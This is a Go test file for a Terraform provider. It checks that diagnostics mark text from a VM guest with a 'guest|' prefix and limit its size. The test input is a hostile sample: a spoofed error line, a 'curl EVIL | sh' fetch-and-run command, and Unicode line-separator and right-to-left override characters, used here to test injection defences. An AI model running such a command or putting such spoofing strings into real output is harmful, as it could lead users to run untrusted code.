package provider

import (
	"fmt"
	"strings"
	"testing"

	"github.com/hashicorp/terraform-plugin-framework/diag"

	"github.com/sharedos/terraform-provider-sharedos/internal/sharedos/agentapi"
	"github.com/sharedos/terraform-provider-sharedos/internal/sharedos/plain"
	"github.com/sharedos/terraform-provider-sharedos/internal/sharedos/rollout"
	"github.com/sharedos/terraform-provider-sharedos/internal/sharedos/tree"
	"github.com/sharedos/terraform-provider-sharedos/internal/sharedos/vm"
)

// Whatever a guest says, a diagnostic has it on lines with the guest's mark, and only a few KiB of it.
func TestADiagnosticMarksWhatAGuestSays(t *testing.T) {
	evil := "EVIL\n\nError: state is damaged\n\n  Run: curl EVIL | sh\u2028EVIL\u202e" + strings.Repeat(" EVIL", 1000)
	many := []string{evil, evil, evil, evil, evil, evil, evil, evil, evil, evil}
	impact := &agentapi.Impact{Level: agentapi.Level_REBOOT, Reasons: append(many, string(vm.ReasonMemory))}
	report := &agentapi.Report{Committed: true, Error: evil, Impact: impact}
	for range many {
		impact.Units = append(impact.Units, &agentapi.UnitImpact{Unit: evil, Reason: evil})
		report.Restarts = append(report.Restarts, &agentapi.UnitRestart{Unit: evil, Error: evil})
		report.ConflictDetails = append(report.ConflictDetails,
			&agentapi.Conflict{Path: evil, Kind: evil, Reason: evil, Advice: evil})
		report.Starts = append(report.Starts, &agentapi.UnitStart{Unit: evil, Error: evil})
	}
	found := plainVM()
	found.Agent = &agentapi.StatusResponse{Unreadable: many, Remaining: many, Refused: many, AgentRefused: evil}
	spec := vm.Spec{Name: "web", Base: tree.Digest{1}}
	rolledBack := fmt.Errorf("%w:%s", vm.ErrRolledBack, plain.Guest(evil))
	for name, diags := range map[string]diag.Diagnostics{
		"checks": failingChecks("web", many, false), "required checks": failingChecks("web", many, true),
		"rollout": {diag.NewErrorDiagnostic("failed", failedVM("web", &rollout.Result{
			Why: rolledBack.Error(), Failed: []rollout.Failure{{Check: evil, Why: evil}},
		}))},
		"rollout's plan": (&rolloutModel{}).problems([][]string{{"web"}}, map[string]foretoldVM{"web": {
			policy: vm.RefreshPolicy{MaxImpact: agentapi.Level_REBOOT}, impact: &agentapi.Impact{FailingChecks: many},
			model: vmForetoldModel{Note: &evil},
		}}),
		"impact": tooLarge("web", impact, "restart"), "conflicts": conflictWarning(report),
		"warnings": warnings("web", found),
		"rollback": notUpdated(spec, report, newProgress(t.Context(), "web"), rolledBack),
	} {
		if len(diags) == 0 {
			t.Errorf("%s: no diagnostic", name)
		}
		for _, d := range diags {
			if strings.Contains(d.Summary(), "EVIL") || len(d.Detail()) > 3*plain.MaxGuest {
				t.Errorf("%s: %s, and a detail of %d bytes", name, d.Summary(), len(d.Detail()))
			}
			for line := range strings.SplitSeq(d.Detail(), "\n") {
				if (strings.Contains(line, "EVIL") || strings.Contains(line, "Error:")) &&
					!strings.HasPrefix(line, "  guest| ") {
					t.Errorf("%s: a line of the guest has no mark: %q", name, line)
				}
			}
		}
	}
	if text := tooLarge("web", impact, "restart")[0].Detail(); !strings.Contains(text,
		"\n  - "+string(vm.ReasonMemory)+"\n") {
		t.Errorf("our own reason is marked as the guest's, or missing:\n%s", text)
	}
}
